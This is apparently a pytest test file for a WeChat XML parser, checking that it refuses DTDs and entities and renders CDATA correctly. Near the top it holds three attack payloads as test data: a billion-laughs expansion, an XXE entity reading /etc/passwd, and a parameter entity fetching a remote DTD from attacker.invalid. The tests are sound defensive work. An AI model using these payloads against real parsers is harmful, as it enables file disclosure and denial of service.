"""wechat.xml: defusedxml-only parsing (XXE / entity expansion refused) and CDATA rendering."""

from __future__ import annotations

import pytest

from wechat.errors import WeChatXMLError, XMLSecurityError
from wechat.xml import parse_xml, to_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<xml><return_code>&lol3;</return_code></xml>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><return_code>&xxe;</return_code></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<xml><a>1</a></xml>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY])
def test_dtd_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(XMLSecurityError) as excinfo:
        parse_xml(body)
    assert excinfo.value.code == "XML_FORBIDDEN"
    assert isinstance(excinfo.value, ValueError)


@pytest.mark.parametrize("body", [b"", b"not xml", b"<xml><a>1</xml>", "<xml>" * 10])
def test_garbage_is_an_ambiguous_xml_error(body: bytes | str) -> None:
    with pytest.raises(WeChatXMLError) as excinfo:
        parse_xml(body)
    assert excinfo.value.ambiguous


def test_parse_flat_and_nested() -> None:
    body = (
        "<xml><return_code><![CDATA[SUCCESS]]></return_code><total_amount>100</total_amount>"
        "<send_name><![CDATA[红包 & <商户>]]></send_name>"
        "<hblist><hbinfo><openid>o1</openid></hbinfo><hbinfo><openid>o2</openid></hbinfo></hblist>"
        "<empty></empty></xml>"
    )
    assert parse_xml(body) == {
        "return_code": "SUCCESS",
        "total_amount": "100",
        "send_name": "红包 & <商户>",
        "hblist": {"hbinfo": [{"openid": "o1"}, {"openid": "o2"}]},
        "empty": "",
    }


def test_to_xml_exact_bytes_and_round_trip() -> None:
    fields = {"b": "x]]>y", "a": 100, "c": None, "d": "中文"}
    xml = to_xml(fields)
    assert xml == "<xml><a>100</a><b><![CDATA[x]]]]><![CDATA[>y]]></b><d><![CDATA[中文]]></d></xml>"
    assert parse_xml(xml) == {"a": "100", "b": "x]]>y", "d": "中文"}


@pytest.mark.parametrize("bad", [{"a b": "x"}, {"<a>": "x"}, {"flag": True}])
def test_to_xml_rejects_bad_tags_and_booleans(bad: dict[str, object]) -> None:
    with pytest.raises((ValueError, TypeError)):
        to_xml(bad)
